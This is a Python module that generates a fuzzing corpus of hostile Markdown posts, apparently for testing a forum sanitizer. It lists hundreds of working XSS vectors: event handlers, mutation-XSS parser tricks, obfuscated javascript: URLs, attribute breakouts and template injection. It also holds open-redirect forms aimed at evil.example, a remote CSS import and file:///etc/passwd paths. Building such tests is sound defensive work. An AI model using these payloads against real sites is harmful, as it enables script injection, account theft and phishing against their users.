"""Our own corpus of hostile posts: families of vectors, each put into every place of the syntax.

Every vector that works calls `fire(...)`, so that a browser can tell.
"""

from itertools import product

JS = "fire(1)"

_TAGS = ["script", "img", "svg", "body", "iframe", "input", "details", "video", "audio", "object"]
_TAGS += ["embed", "math", "style", "link", "meta", "base", "form", "button", "marquee", "a", "div"]
_TAGS += ["textarea", "select", "template", "noscript", "table", "plaintext", "xmp"]
_HANDLERS = [
    "src=x onerror",
    "onload",
    "onclick",
    "autofocus tabindex=0 onfocus",
    "onmouseover",
    "open ontoggle",
    "style=animation:x onanimationstart",
    "onpointerenter",
]
ELEMENTS = [f"<{tag} {handler}={JS}>" for tag, handler in product(_TAGS, _HANDLERS)] + [
    f"<script>{JS}</script>",
    f"<ScRiPt >{JS}</sCrIpT>",
    f"<script\n>{JS}</script\n>",
    f"<<script>{JS}//<</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script/src=data:,{JS}></script>",
    f"<svg/onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><a xlink:href=javascript:{JS}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>\">",
    f"<math href=javascript:{JS}>x</math>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src=javascript:parent.{JS}></iframe>",
    f"<object data=javascript:{JS}></object>",
    f"<embed src=javascript:{JS}>",
    f"<form action=javascript:{JS}><input type=submit></form>",
    f"<button formaction=javascript:{JS}>x</button>",
    f"<isindex action=javascript:{JS} type=image>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<base href=javascript:{JS}//>",
    f"<link rel=stylesheet href=javascript:{JS}>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=position:fixed;inset:0>x</div>",
    "<img width=99999 height=99999 src=/x>",
    "<a id=currentUser name=getElementById>x</a>",
    f"<img src=x onerror\x00={JS}>",
    f"<img\x0bsrc=x onerror={JS}>",
    f"<img/src=x/onerror={JS}>",
    f"<img src=`x`onerror={JS}>",
    f"<img src='x'onerror={JS}>",
    f"<img src=x:x onerror&equals;{JS}>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"＜img src=x onerror={JS}＞",
]

MUTATIONS = [
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={JS}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={JS}&gt;'>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror={JS}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<style><img title='</style><img src=x onerror={JS}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={JS}>'>",
    f"<title><img title='</title><img src=x onerror={JS}>'>",
    f"<xmp><p title='</xmp><svg/onload={JS}>'>",
    f"<noembed><p title='</noembed><svg/onload={JS}>'>",
    f"<noframes><p title='</noframes><svg/onload={JS}>'>",
    f"<iframe><p title='</iframe><svg/onload={JS}>'>",
    f"<plaintext><p title='</plaintext><svg/onload={JS}>'>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!---><img src=x onerror={JS}>-->",
    f"<!-- --!><img src=x onerror={JS}> -->",
    f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={JS}>]]>",
    f"<svg><![CDATA[><img src=x onerror={JS}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={JS}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={JS}>'>]>&y;",
    f"<select><template><img src=x onerror={JS}></template></select>",
    f"<template><script>{JS}</script></template>",
    f"<table><td><svg><desc><td><img src=x onerror={JS}>",
    f"<a href='x'><table><a href='javascript:{JS}'>x</a></table>",
    f"<b><p></b><img src=x onerror={JS}></p>",
    f"</p></article></main></body><img src=x onerror={JS}>",
    f"--><svg/onload={JS}><!--",
    f"]]><svg/onload={JS}>",
    f"<svg><foreignobject><img src=x onerror={JS}></foreignobject></svg>",
    f"<svg><annotation-xml encoding='text/html'><img src=x onerror={JS}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={JS}></style>",
    f"<d><img/src='x'/onerror='{JS}'/><d>",
    f"<image src=x onerror={JS}>",
    f"<p/onmouseover={JS}>",
    f"<x onclick={JS}>x",
    f"<x-y autofocus tabindex=1 onfocus={JS}>",
]

# T7: what an address may not be, in some eighty ways of hiding it.
_SCRIPTS = ["javascript:", "JAVASCRIPT:", "JaVaScRiPt:", "jav\tascript:", "jav\nascript:"]
_SCRIPTS += [f"{chr(code)}javascript:" for code in (1, 8, 11, 12, 14, 28, 31, 127, 133, 160)]
_SCRIPTS += [f"java{chr(code)}script:" for code in (1, 9, 11, 12, 13, 173, 0x200B, 0x200D, 0x2028)]
_SCRIPTS += [f"javascript{chr(code)}:" for code in (9, 10, 32, 0x2028, 0x2029, 0xFEFF)]
_SCRIPTS += ["java script:", " javascript:", "\tjavascript:", "javascript :", "javascript&colon;"]
_SCRIPTS += ["javascript&#58;", "javascript&#x3a;", "javascript&#x3A", "javascript&#0058;"]
_SCRIPTS += ["&#106;avascript:", "&#x6A;avascript:", "&#x6a;&#x61;vascript:", "&#0000106avascript:"]
_SCRIPTS += ["java&Tab;script:", "java&NewLine;script:", "java&#9;script:", "java&#10;script:"]
_SCRIPTS += [
    "%6Aavascript:",
    "%6a%61vascript:",
    "javascript%3a",
    "javascript%253A",
    "j%0Aavascript:",
]
_SCRIPTS += [
    "\\javascript:",
    "j\\avascript:",
    "javascript\\:",
    "\\x6aavascript:",
    "\\u006aavascript:",
]
_SCRIPTS += ["ｊavascript:", "javaſcript:", "javascrıpt:", "javascript：", "javascript﹕"]
_SCRIPTS += [
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "livescript:",
    "mocha:",
]
_SCRIPTS += [
    "vbscript:",
    "VbScRiPt:",
    "vbscript&colon;",
    "`javascript:",
    '"javascript:',
    "'javascript:",
]
ADDRESSES = [f"{script}{JS}" for script in _SCRIPTS] + [
    f"javascript:123;{JS}",
    f"javascript://%0a{JS}",
    f"javascript://evil.example/%0A{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={JS}>",
    "DATA:text/html,x",
    "//evil.example",
    "///evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:\\\\evil.example",
    "https://bank.example@evil.example/",
    "https://bank.example:pw@evil.example/",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "ws://evil.example",
    "ftp://evil.example",
    "about:blank",
    "x:y",
    "upload://../../etc/passwd",
    "upload://a/b",
    "upload://" + "a" * 200,
]

BREAKOUTS = [
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror={JS}>",
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'" autofocus tabindex=0 onfocus={JS} x="',
    f'x" onmouseover={JS} y="',
    f"`onmouseover={JS}",
    f"&quot; onmouseover=&quot;{JS}",
    f"&#34;&gt;&lt;img src=x onerror={JS}&gt;",
    f"&amp;quot;&amp;gt;&amp;lt;svg onload={JS}&amp;gt;",
    f'\\"><svg/onload={JS}>',
    f"</span></p></blockquote></details></summary><svg/onload={JS}>",
    f"</code></pre><svg/onload={JS}>",
    f"</a></h3></td></li><script>{JS}</script>",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"${{{JS}}}",
    f"\u202e\u2066><img src=x onerror={JS}>",
    f"<img src=x onerror={JS}>",
    "__proto__",
    "x]y[z(a)",
]

_LINKED = [
    "[a](%s)",
    "[a](<%s>)",
    "<%s>",
    "![a](%s)",
    "[a]: %s\n\n[a]",
    "%s",
    "[%s](%s)",
    "[![a](%s)](%s)",
]
_PLACES = [
    "%s",
    "a **%s** _%s_ ~~%s~~",
    "# %s",
    "> %s",
    "- %s\n- [ ] %s",
    "1. %s",
    "|%s|b|\n|--|:-:|\n|%s|%s|",
    "`%s` ``%s``",
    "    %s",
    "```%s\ncode\n```",
    "```python\n%s\n```",
    "```html\n%s\n```",
    '[a](/b "%s")',
    "[a](/b '%s')",
    "[%s](/b)",
    "![%s](/b)",
    "![%s|640x480](upload://key)",
    '![a](upload://key "%s")',
    "[%s](upload://file)",
    "[a]: /b '%s'\n\n[a] [%s]: /c",
    '[quote="%s, post:3, thread:62"]\n%s\n[/quote]',
    "[quote=%s]\n%s\n[/quote]",
    '[details="%s"]\n%s\n[/details]',
    "[details=%s]\n%s\n[/details]",
    "[spoiler]\n%s\n[/spoiler]",
    "[spoiler]%s[/spoiler] ||%s||",
    "@%s @max%s",
    "#%s #help%s",
    ":%s: :wave%s:",
    "a[^1]\n\n[^1]: %s",
    "a[^%s]\n\n[^%s]: b",
    "$%s$",
    "$$\n%s\n$$",
    "https://a.example/%s www.a.example/%s",
    "<https://a.example/%s>",
    "&%s; &#%s;",
    "%s\n===",
]


def _put(place, payload):
    return place.replace("%s", payload)


def posts():
    """Every payload in its places, as Markdown; some 3,500 texts."""
    found = [_put(place, address) for place in _LINKED for address in ADDRESSES]
    found += [_put(place, payload) for place in _PLACES for payload in BREAKOUTS + MUTATIONS]
    found += ELEMENTS
    found += [_put(place, payload) for place in _PLACES[1::9] for payload in ELEMENTS]
    return list(dict.fromkeys(found))
